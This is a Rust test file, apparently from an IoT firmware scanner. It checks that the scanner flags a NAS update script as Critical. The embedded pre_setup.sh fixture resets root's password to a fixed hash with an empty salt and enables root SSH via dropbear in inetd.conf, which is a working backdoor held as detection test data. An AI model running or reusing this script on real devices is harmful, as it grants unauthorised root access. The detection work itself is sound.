//! Accounts and services changed by a script when it runs. The Seagate BlackArmor NAS 220
//! "SP42" update package of the wider corpus carries pre_setup.sh, which resets root's entry
//! in /etc/shadow to a fixed md5crypt hash with an empty salt and appends a dropbear line for
//! root to /etc/inetd.conf; the shipped files say neither. The fixture mirrors those lines in
//! a root filesystem (the package itself is a truncated gzip the unpacker does not open yet).

use iotassure_core::finding::Severity;
use iotassure_testkit::inspect::write;

use super::{fails, mentions, run_folder};

const PRE_SETUP: &str = r#"#!/bin/sh

# enable SSH

grep "^ssh" /etc/inetd.conf >/dev/null
if [ "$?" -ne "0" ]; then
	echo "ssh stream tcp nowait root /usr/sbin/dropbear dropbear -i" >> /etc/inetd.conf
fi

PWTOOR='$1$$4ZqV5rJEeb0ZYXscpTpsX.'
if [ -f /etc/shadow ]; then
	/bin/sed -i "s!^root:.*!root:${PWTOOR}:14783:0:99999:7:::!g" /etc/shadow >/dev/null 2>&1
else
	/bin/sed -i "s!^root:.*!root:${PWTOOR}:0:0:root:/root:/bin/sh!g" /etc/passwd >/dev/null 2>&1
fi
"#;

#[test]
fn script_sets_a_fixed_root_hash_and_adds_ssh_to_inetd() {
    let dir = tempfile::tempdir().unwrap();
    let r = dir.path();
    write(r, "etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
    write(r, "etc/shadow", "root:*:14000:0:99999:7:::\n");
    write(
        r,
        "etc/inetd.conf",
        "ftp stream tcp nowait root /usr/sbin/ftpd ftpd\n",
    );
    write(r, "bin/sh", "");
    write(r, "usr/share/sp/pre_setup.sh", PRE_SETUP);
    let obs = run_folder(r);
    let creds = fails(&obs, "5.1-1");
    let f = creds
        .iter()
        .find(|f| f.title.contains("fixed password hash for root"))
        .unwrap_or_else(|| panic!("{:?}", creds.iter().map(|f| &f.title).collect::<Vec<_>>()));
    assert_eq!(f.severity, Severity::Critical);
    assert!(mentions(f, "empty salt") && mentions(f, "pre_setup.sh"));
    let svc = fails(&obs, "5.6-1");
    assert!(
        svc.iter().any(|f| mentions(f, "dropbear")
            && f.title.contains("as root")
            && f.title.contains("ssh")),
        "{:?}",
        svc.iter().map(|f| &f.title).collect::<Vec<_>>()
    );

    // A script that only reads the files changes nothing.
    let clean = tempfile::tempdir().unwrap();
    let c = clean.path();
    write(c, "etc/passwd", "root:x:0:0:root:/root:/bin/sh\n");
    write(c, "bin/sh", "");
    write(
        c,
        "usr/bin/check.sh",
        "#!/bin/sh\ngrep \"^ssh\" /etc/inetd.conf\ngrep -q '^root:' /etc/shadow && echo ok\n",
    );
    let obs = run_folder(c);
    assert!(!obs
        .findings
        .iter()
        .any(|f| f.check == "5.1-1-fw-install-scripts"
            && f.outcome == iotassure_core::finding::Outcome::Fail));
}
